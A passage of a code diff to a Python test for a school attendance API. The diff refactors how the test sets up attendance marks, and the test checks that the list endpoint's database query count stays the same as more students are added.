+    mark(api, cast.admin, school_year.sec_a, att.day, [entry(s) for s in first[:2]])
     flush_here()
-    mark(api, cast.admin, att.sec_a, att.day, [entry(first[2], "absent")])
+    mark(api, cast.admin, school_year.sec_a, att.day, [entry(first[2], "absent")])
     small_list = _count_queries(lambda: client.get(LIST, list_params))
     small_register = _count_queries(
         lambda: client.get("/api/v1/attendance/register/", register_params)
     )
 
     more = add_students(12, 20)
-    mark(api, cast.admin, att.sec_a, att.day, [entry(s) for s in more[:6]])
+    mark(api, cast.admin, school_year.sec_a, att.day, [entry(s) for s in more[:6]])
     flush_here()
-    mark(api, cast.admin, att.sec_a, att.day, [entry(s, "late", late_minutes=1) for s in more[6:]])
-    mark(api, cast.admin, att.sec_a, att.old_day, [entry(s) for s in more])
+    mark(
+        api,
+        cast.admin,
+        school_year.sec_a,
+        att.day,
+        [entry(s, "late", late_minutes=1) for s in more[6:]],
+    )
+    mark(api, cast.admin, school_year.sec_a, att.old_day, [entry(s) for s in more])
     r = client.get(LIST, list_params)
     assert r.json()["count"] == 15
     assert _count_queries(lambda: client.get(LIST, list_params)) == small_list
